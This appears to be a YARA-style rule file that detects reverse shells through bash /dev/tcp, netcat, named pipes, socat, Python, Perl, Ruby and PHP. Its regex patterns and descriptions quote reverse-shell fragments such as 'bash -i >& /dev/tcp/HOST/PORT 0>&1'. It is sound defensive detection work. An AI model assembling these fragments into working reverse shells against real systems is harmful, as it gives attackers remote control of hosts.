// Reverse shells: an interactive shell whose input and output are a network socket. Each rule
// asks for the socket and the shell wired together, so a health check that opens /dev/tcp or a
// client that uses sockets without handing them to a shell does not match.

rule revshell_bash_dev_tcp {
  meta:
    id = "revshell-bash-dev-tcp"
    title = "Reverse shell through bash /dev/tcp or /dev/udp"
    severity = "high"
    confidence = "high"
    attack = "T1059.004,T1071"
    description = "A shell started interactive with its standard streams redirected to bash's /dev/tcp or /dev/udp pseudo-files (bash -i >& /dev/tcp/HOST/PORT 0>&1, or a shell reading from a file descriptor opened on /dev/tcp): remote control of the container."
    reference = "https://www.gnu.org/software/bash/manual/html_node/Redirections.html (/dev/tcp/host/port); MITRE ATT&CK T1059.004"
  strings:
    $interactive = /\b(ba|z|k|da)?sh\s+-i\s*[0-9]?[<>]&?\s*\/dev\/(tcp|udp)\/[^\/\s]+\/[0-9]{1,5}/
    $stdin_dup = /\/dev\/(tcp|udp)\/[^\/\s]+\/[0-9]{1,5}\s+0>&1/
    $shell_from_fd = /\b(ba|z|k|da)?sh\s+(-i\s+)?<&\s*[0-9]+\s*>&\s*[0-9]+/
    $fd_open = /[0-9]+<>\s*\/dev\/(tcp|udp)\/[^\/\s]+\/[0-9]{1,5}/
    $shell_stdin = /\b(ba|z|k|da)?sh\s+(-i\s+)?0?<\s*\/dev\/(tcp|udp)\/[^\/\s]+\/[0-9]{1,5}/
    $read_loop = /while\s+read\s+[A-Za-z_]+\s*;\s*do\s+\$[A-Za-z_]+\s+2?>&\s*[0-9]/
  condition:
    $interactive or $stdin_dup or $shell_stdin or ($fd_open and ($shell_from_fd or $read_loop))
}

rule revshell_nc_exec {
  meta:
    id = "revshell-nc-exec"
    title = "Reverse shell through netcat/ncat -e or -c"
    severity = "high"
    confidence = "high"
    attack = "T1059.004,T1071"
    description = "netcat, ncat or nc.traditional asked to run a shell for the connection (-e /bin/sh, -c bash): a one-line bind or reverse shell."
    reference = "https://nmap.org/ncat/guide/ncat-exec.html (-e/--exec, -c/--sh-exec); MITRE ATT&CK T1059.004"
  strings:
    $nc = /\b(nc|ncat|netcat|nc\.traditional)\s([^\n|;&]{0,80}\s)?(-e|-c|--exec|--sh-exec)[ =]?\s*["']?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/
  condition:
    $nc
}

rule revshell_fifo_shell {
  meta:
    id = "revshell-fifo-shell"
    title = "Reverse shell through a named pipe"
    severity = "high"
    confidence = "high"
    attack = "T1059.004,T1071"
    description = "A named pipe (mkfifo or mknod p) that loops a shell's output into netcat, ncat, telnet or openssl and back: the reverse shell for netcat builds without -e."
    reference = "https://man7.org/linux/man-pages/man1/mkfifo.1.html; MITRE ATT&CK T1059.004"
  strings:
    $fifo = /(mkfifo|mknod)\s+[^\n]{0,80}\b(ba|z|k|da)?sh\b[^\n]{0,60}\|\s*(nc|ncat|netcat|telnet|openssl\s+s_client)\b/
  condition:
    $fifo
}

rule revshell_socat_exec {
  meta:
    id = "revshell-socat-exec"
    title = "Reverse shell through socat exec"
    severity = "high"
    confidence = "high"
    attack = "T1059.004,T1071"
    description = "socat joining a TCP/SSL connection to exec:/system: of a shell: a fully interactive remote shell."
    reference = "http://www.dest-unreach.org/socat/doc/socat.html (EXEC and SYSTEM addresses); MITRE ATT&CK T1059.004"
  strings:
    $net_first = /socat\s[^\n]{0,120}([tT][cC][pP][46]?(-[cC][oO][nN][nN][eE][cC][tT])?|[oO][pP][eE][nN][sS][sS][lL](-[cC][oO][nN][nN][eE][cC][tT])?|[sS][sS][lL]):[^\s]{3,}[ \t]+["']?([eE][xX][eE][cC]|[sS][yY][sS][tT][eE][mM]):["']?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/
    $exec_first = /socat\s[^\n]{0,40}([eE][xX][eE][cC]|[sS][yY][sS][tT][eE][mM]):["']?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b[^\n]{0,120}[ \t]["']?([tT][cC][pP][46]?(-[cC][oO][nN][nN][eE][cC][tT])?|[oO][pP][eE][nN][sS][sS][lL](-[cC][oO][nN][nN][eE][cC][tT])?|[sS][sS][lL]):[^\s]{3,}/
  condition:
    $net_first or $exec_first
}

rule revshell_python {
  meta:
    id = "revshell-python"
    title = "Python reverse shell"
    severity = "high"
    confidence = "high"
    attack = "T1059.006,T1071"
    description = "Python that connects a socket and then hands it to a shell: duplicates it over stdin/stdout with os.dup2 and starts /bin/sh or pty.spawn, or passes its file descriptor to subprocess as stdin."
    reference = "https://docs.python.org/3/library/os.html#os.dup2; MITRE ATT&CK T1059.006"
  strings:
    $dup2 = /socket\.socket\(.{0,400}\.connect\(\(.{0,400}os\.dup2\(.{0,400}(\/bin\/(ba|z)?sh|pty\.spawn\()/s
    $subprocess = /socket\.socket\(.{0,400}\.connect\(\(.{0,400}subprocess\.(call|Popen|run)\(.{0,200}stdin\s*=\s*[A-Za-z_][A-Za-z0-9_]*\.fileno\(\)/s
  condition:
    $dup2 or $subprocess
}

rule revshell_perl {
  meta:
    id = "revshell-perl"
    title = "Perl reverse shell"
    severity = "high"
    confidence = "high"
    attack = "T1059.006,T1071"
    description = "Perl that connects a socket, reopens STDIN/STDOUT on it and execs a shell: the classic perl -e reverse shell and its IO::Socket variants."
    reference = "https://perldoc.perl.org/functions/open (dup with >&); MITRE ATT&CK T1059"
  strings:
    $classic = /connect\s*\(\s*[A-Za-z_]+\s*,\s*sockaddr_in\(.{0,200}open\s*\(\s*STDIN\s*,\s*["']?[<>]&.{0,200}exec\s*\(?\s*["']\/bin\/(ba|z)?sh/s
    $io_socket = /IO::Socket::INET.{0,300}(STDIN->fdopen|open\s*\(\s*STDIN\s*,\s*["']?[<>]&).{0,300}(exec|system)\s*\(?\s*["']?\/bin\/(ba|z)?sh/s
  condition:
    $classic or $io_socket
}

rule revshell_ruby {
  meta:
    id = "revshell-ruby"
    title = "Ruby reverse shell"
    severity = "high"
    confidence = "high"
    attack = "T1059,T1071"
    description = "Ruby that opens a TCPSocket and execs or spawns a shell wired to its descriptor (sh -i <&%d >&%d), or pipes socket lines through IO.popen."
    reference = "https://docs.ruby-lang.org/en/master/TCPSocket.html; MITRE ATT&CK T1059"
  strings:
    $fd = /TCPSocket\.(open|new)\s*\(.{0,200}(exec|spawn|system)\s*\(?\s*(sprintf\s*\()?\s*["']\/bin\/(ba|z)?sh[^"'\n]{0,10}<&/s
    $popen = /TCPSocket\.(open|new)\s*\(.{0,300}IO\.popen\s*\(.{0,300}\.(puts|print|write)\b/s
  condition:
    $fd or $popen
}

rule revshell_php {
  meta:
    id = "revshell-php"
    title = "PHP reverse shell"
    severity = "high"
    confidence = "high"
    attack = "T1059,T1071"
    description = "PHP that opens a socket with fsockopen and runs /bin/sh on its descriptor (exec('/bin/sh -i <&3 >&3 2>&3')) or through proc_open with the socket as the shell's pipes."
    reference = "https://www.php.net/manual/en/function.fsockopen.php; MITRE ATT&CK T1059"
  strings:
    $fd = /fsockopen\s*\(.{0,300}\/bin\/(ba|z)?sh( -i)?\s*<&\s*[0-9]/s
    $proc = /fsockopen\s*\(.{0,300}proc_open\s*\(\s*["']\/bin\/(ba|z)?sh/s
  condition:
    $fd or $proc
}
